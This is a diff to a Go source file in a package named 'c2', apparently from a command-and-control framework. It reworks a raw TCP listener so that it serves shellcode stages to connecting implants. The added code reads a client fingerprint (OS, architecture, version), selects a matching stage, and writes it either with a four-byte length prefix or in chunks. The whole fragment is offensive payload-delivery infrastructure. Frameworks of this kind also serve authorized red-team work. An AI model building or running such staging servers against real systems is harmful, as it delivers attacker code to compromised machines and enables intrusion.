@@ -19,6 +19,8 @@ package c2
 */
 
 import (
+	"bufio"
+	"encoding/binary"
 	"fmt"
 	"net"
 
@@ -30,18 +32,18 @@ var (
 )
 
 // StartTCPListener - Start a TCP listener
-func StartTCPListener(bindIface string, port uint16, data []byte) (net.Listener, error) {
+func StartTCPListener(bindIface string, port uint16, stager *Stager) (net.Listener, error) {
 	tcpLog.Infof("Starting Raw TCP listener on %s:%d", bindIface, port)
 	ln, err := net.Listen("tcp", fmt.Sprintf("%s:%d", bindIface, port))
 	if err != nil {
 		mtlsLog.Error(err)
 		return nil, err
 	}
-	go acceptConnections(ln, data)
+	go acceptConnections(ln, stager)
 	return ln, nil
 }
 
-func acceptConnections(ln net.Listener, data []byte) {
+func acceptConnections(ln net.Listener, stager *Stager) {
 	for {
 		conn, err := ln.Accept()
 		if err != nil {
@@ -51,15 +53,39 @@ func acceptConnections(ln net.Listener, data []byte) {
 			tcpLog.Errorf("Accept failed: %v", err)
 			continue
 		}
-		go handleConnection(conn, data)
+		go handleConnection(conn, stager)
 	}
 }
 
-func handleConnection(conn net.Conn, data []byte) {
+func handleConnection(conn net.Conn, stager *Stager) {
 	mtlsLog.Infof("Accepted incoming connection: %s", conn.RemoteAddr())
-	tcpLog.Infof("Sending shellcode (%d)\n", len(data))
-	// Send shellcode
-	conn.Write(data)
-	// Closing connection
-	conn.Close()
+	defer conn.Close()
+	if !stager.IsStaged() {
+		tcpLog.Infof("Sending shellcode (%d)\n", len(stager.Default))
+		conn.Write(stager.Default)
+		return
+	}
+
+	reader := bufio.NewReader(conn)
+	fingerprint, err := readStageFingerprint(conn, reader)
+	if err != nil {
+		tcpLog.Errorf("Failed to read fingerprint from %s: %s", conn.RemoteAddr(), err)
+		return
+	}
+	name, data := stager.Select(fingerprint)
+	if fingerprint == nil {
+		// Stagers that don't fingerprint expect the size of the stage first
+		tcpLog.Infof("Sending shellcode (%d) to %s without a fingerprint\n", len(data), conn.RemoteAddr())
+		size := make([]byte, 4)
+		binary.LittleEndian.PutUint32(size, uint32(len(data)))
+		conn.Write(append(size, data...))
+		return
+	}
+	chunkSize := stager.chunkSize(fingerprint)
+	tcpLog.Infof("Sending stage '%s' (%d, chunks of %d) to %s (%s/%s %s)", name, len(data), chunkSize,
+		conn.RemoteAddr(), fingerprint.GOOS, fingerprint.GOARCH, fingerprint.Version)
+	err = writeStage(conn, reader, data, chunkSize)
+	if err != nil {
+		tcpLog.Errorf("Failed to send stage to %s: %s", conn.RemoteAddr(), err)
+	}
 }